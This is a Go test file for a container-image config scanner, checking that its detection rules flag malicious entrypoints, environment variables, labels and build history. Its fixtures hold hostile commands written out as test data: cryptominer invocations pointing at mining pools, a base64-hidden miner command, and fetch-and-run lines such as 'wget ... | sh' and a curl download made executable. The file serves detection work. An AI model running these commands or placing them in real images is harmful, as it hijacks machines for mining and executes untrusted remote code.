package filescan

import (
	"encoding/base64"
	"slices"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
)

func TestScanImageConfig(t *testing.T) {
	e := newEngine(t)
	hidden := base64.StdEncoding.EncodeToString([]byte("./x -o stratum+tcp://203.0.113.4:3333 -u " + testWallet + " --donate-level 0"))
	for _, tc := range []struct {
		name string
		cfg  v1.Config
		hist []string
		want map[string][]string // path -> IDs
	}{
		{"miner entrypoint and args", v1.Config{
			Entrypoint: []string{"/usr/local/bin/kworker"},
			Cmd:        []string{"-o", "stratum+tcp://pool.supportxmr.com:3333", "-u", testWallet, "--donate-level=1"},
		}, nil, map[string][]string{"config:Entrypoint+Cmd": {"DAVY-C001", "DAVY-C002", "DAVY-C003", "DAVY-N001"}}},
		{"env", v1.Config{
			Env: []string{"PATH=/usr/bin", "POOL=gulf.moneroocean.stream:10128", "WALLET=" + testWallet, "ARGS=--randomx-1gb-pages --cpu-priority 5"},
		}, nil, map[string][]string{"config:Env[1]": {"DAVY-N001"}, "config:Env[2]": {"DAVY-C002"}, "config:Env[3]": {"DAVY-C003"}}},
		{"kinsing via docker api", v1.Config{
			Cmd: []string{"/bin/sh", "-c", "apt-get update && apt-get install -y wget cron; service cron start; wget -q -O - 198.51.100.20/d.sh | sh; tail -f /dev/null"},
		}, nil, map[string][]string{"config:Cmd": {"DAVY-S001", "DAVY-S002"}}},
		{"history run line", v1.Config{}, []string{
			"/bin/sh -c #(nop) ADD file:abc in / ",
			"RUN /bin/sh -c curl -s http://203.0.113.50/x -o /usr/bin/x && chmod +x /usr/bin/x # buildkit",
			"/bin/sh -c #(nop)  CMD [\"/usr/bin/x\"]",
		}, map[string][]string{"config:history[1]": {"DAVY-S001"}}},
		{"label and hidden blob", v1.Config{Labels: map[string]string{"run": hidden}},
			nil, map[string][]string{"config:Labels[run]!base64@0": {"DAVY-C001", "DAVY-C002", "DAVY-C003"}}},
		{"ordinary image", v1.Config{
			Entrypoint: []string{"docker-entrypoint.sh"}, Cmd: []string{"postgres", "-c", "max_connections=200"},
			Env:    []string{"PATH=/usr/local/bin:/usr/bin", "PGDATA=/var/lib/postgresql/data", "GOSU_VERSION=1.17"},
			Labels: map[string]string{"org.opencontainers.image.source": "https://github.com/docker-library/postgres"},
		}, []string{"/bin/sh -c set -eux; apt-get update; apt-get install -y --no-install-recommends gnupg; rm -rf /var/lib/apt/lists/*",
			"/bin/sh -c curl -fsSL https://example.com/key.gpg -o /usr/share/keyrings/x.gpg"}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cf := &v1.ConfigFile{Config: tc.cfg}
			for _, h := range tc.hist {
				cf.History = append(cf.History, v1.History{CreatedBy: h})
			}
			fs := e.ScanImageConfig(cf)
			got := map[string][]string{}
			for _, f := range fs {
				got[f.Path] = append(got[f.Path], f.ID)
			}
			for p := range got {
				slices.Sort(got[p])
			}
			if len(got) != len(tc.want) {
				t.Fatalf("got %v, want %v%s", got, tc.want, dump(fs))
			}
			for p, ids := range tc.want {
				if !slices.Equal(got[p], ids) {
					t.Fatalf("%s: got %v, want %v%s", p, got[p], ids, dump(fs))
				}
			}
		})
	}
	if e.ScanImageConfig(nil) != nil {
		t.Fatal("nil config")
	}
}
